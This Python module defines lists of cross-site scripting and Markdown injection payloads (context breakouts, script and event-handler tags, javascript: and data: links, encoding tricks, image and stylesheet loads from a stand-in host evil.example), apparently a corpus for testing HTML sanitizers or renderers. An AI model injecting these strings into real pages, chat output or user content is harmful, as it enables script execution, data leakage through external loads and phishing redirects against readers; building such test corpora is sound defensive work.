"""Texts that attack a page or a Markdown document they are put into; `alert(1)` is what each script of theirs would do."""

# What a text may stand in, and how it gets out of there.
OUT_OF = ["", '">', "'>", "-->", "]]>", "</title>", "</style>", "</code></pre>", "</textarea></noscript></template>", "`>\n\n"]
# What runs, asks another server, or takes the page over, once it is out.
RUNS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<img src=//evil.example/x.png>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&lpar;1&rpar;</script>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import url(//evil.example/x.css);</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/><script src=x.js></script>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
]
# What only comes to be by a person's doing, or by another reader of the text.
WAITS = [
    "<a href=javascript:alert(1)>x</a>", "<a href='JaVaScRiPt:alert(1)'>x</a>", '<a href="java\tscript:alert(1)">x</a>',
    "<form action=//evil.example><button>x</button></form>", "<body onload=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<video poster=//evil.example/x>",
    "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>", "<x contenteditable onblur=alert(1)>x",
    "<isindex action=javascript:alert(1) type=image>", "<plaintext>", "<!--", "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?>", "<%= alert(1) %>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<!DOCTYPE x>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template shadowrootmode=open><img src=x onerror=alert(1)>",
    "<select><option><script>alert(1)</script>", "<table background=//evil.example/x>", "<frameset onload=alert(1)>",
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", '" autofocus onfocus="alert(1)" x="', "` onclick=`alert(1)",
    "\" style=\"background:url(//evil.example/x)", "x onclick=alert(1) y", '"><a href="javascript:alert(1)">', "\\\"><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&amp;lt;script&amp;gt;", "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞", "a\0<script\0>alert(1)</script>", "<\0script>alert(1)</script>", "<a\fhref=javascript:alert(1)>x</a>",
    "\u2028<script>alert(1)</script>\u2029", "\ufeff<script>alert(1)</script>", "\u202e>tpircs/<)1(trela>tpircs<", "\x1b[31m<script>alert(1)</script>",
    "\r\n<script>alert(1)</script>\r\n", "\x85<img src=x onerror=alert(1)>", "<script\x0b>alert(1)</script>", "<img src=x\u00a0onerror=alert(1)>",
]
# What Markdown would make something of.
MARKDOWN = [
    "[x](javascript:alert(1))", "![x](//evil.example/x.png)", "![x](https://evil.example/x.png)", "[x][y]\n\n[y]: javascript:alert(1)",
    "[x]: https://evil.example/ (x)\n\n![x]", "<javascript:alert(1)>", "<https://evil.example/>", "https://evil.example/", "www.evil.example",
    "a@evil.example", "![x](x \"onerror=alert(1)\")", "![x](<x> 'onerror=alert(1)')", "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:alert(1))", "[x](  javascript:alert(1))", "[x](java\nscript:alert(1))", "[x](&#106;avascript:alert(1))",
    "[x](\\x6Aavascript:alert(1))", "[![x](//evil.example/x.png)](//evil.example/)", "](javascript:alert(1))", "![", "[x](<", "x](y)![z](//evil.example/z)",
    "```\n<script>alert(1)</script>\n```\n<script>alert(1)</script>", "````\n```\n<img src=x onerror=alert(1)>\n`````\n<img src=x onerror=alert(1)>",
    "```html\n```\n<script>alert(1)</script>", "~~~\n<script>alert(1)</script>\n~~~\n<img src=x onerror=alert(1)>", "`<script>`<script>alert(1)</script>",
    "``<img src=x onerror=alert(1)>`", "    <script>alert(1)</script>", "\t<script>alert(1)</script>", "> <script>alert(1)</script>", "- <img src=x onerror=alert(1)>",
    "1. <img src=x onerror=alert(1)>", "# <img src=x onerror=alert(1)>", "x\n===\n<img src=x onerror=alert(1)>", "x\n\n<img src=x onerror=alert(1)>\n\ny",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |", "| ![x](//evil.example/x.png) |\n|---|", "\\<script>alert(1)</script>", "<\\script>alert(1)</script>",
    "*<img src=x onerror=alert(1)>*", "**bold** _x_ ~~y~~ ![z](//evil.example/z)", "<div>\n\n![x](//evil.example/x.png)\n\n</div>", "<!-- -->![x](//evil.example/x.png)",
    "[^1]\n\n[^1]: ![x](//evil.example/x.png)", "---\nlayout: <script>alert(1)</script>\n---", "$\\href{javascript:alert(1)}{x}$", "\\\n![x](//evil.example/x.png)",
    "x  \n![x](//evil.example/x.png)", "&#33;[x](//evil.example/x.png)", "\\![x](//evil.example/x.png)", "!\\[x](//evil.example/x.png)", "<a name=x>![x](//evil.example/x)",
]
# What a link could lead to.
SCHEMES = [
    "javascript:alert(1)", "JAVASCRIPT:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)", " javascript:alert(1)",
    "javascript://x/%0aalert(1)", "vbscript:msgbox(1)", "livescript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "file:///etc/passwd", "file:/etc/passwd",
    "blob:https://evil.example/1", "about:blank", "view-source:https://evil.example/", "filesystem:https://evil.example/x", "//evil.example/x",
    "/\\evil.example/x", "https:evil.example", "https://", "http:alert(1)", "https://good.example/\"><script>alert(1)</script>",
    "https://good.example/' onclick='alert(1)", "https://good.example/)[x](javascript:alert(1)", "https://good.example/> <script>alert(1)</script>",
    "https://good.example/`\"'<>\\", "https://good.example/\n<img src=x onerror=alert(1)>", "https://u:p@evil.example/", "mailto:a@b.example?body=<script>alert(1)</script>",
    "mailto:", "mailto:a@b.example\"><img src=x onerror=alert(1)>", "ftp://evil.example/", "ws://evil.example/", "chrome://settings", "vscode://file/x",
    "ms-msdt:/id", "intent://x#Intent;end", "steam://run/1", "ssh://evil.example", "tel:112", "sms:112", "magnet:?xt=1", "jar:https://evil.example!/x",
    "feed:javascript:alert(1)", "lunette://asset/x", "https://[::1]/](javascript:alert(1))", "https://evil.example/![x](//evil.example/x.png)", "#",
]

PAYLOADS = list(dict.fromkeys([out + run for out in OUT_OF for run in RUNS] + WAITS + MARKDOWN + SCHEMES))
